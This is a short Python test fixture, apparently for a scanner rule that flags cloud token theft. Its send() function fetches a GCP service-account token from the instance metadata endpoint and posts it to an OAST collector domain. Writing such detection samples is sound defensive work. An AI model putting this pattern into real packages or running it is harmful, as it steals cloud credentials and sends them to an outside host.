# canary-test: path=mypkg/flag.py artifact=wheel
# Instance token fetched and posted to an OAST domain (inert id).
import requests


def send():
    # ruleid: CLOUD_TOKEN_TO_COLLECTOR
    token_url = "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"
    token = requests.get(token_url, headers={"Metadata-Flavor": "Google"}).text
    # ruleid: CLOUD_TOKEN_TO_COLLECTOR
    requests.post("https://inert000.oastify.com/log", data={"t": token})
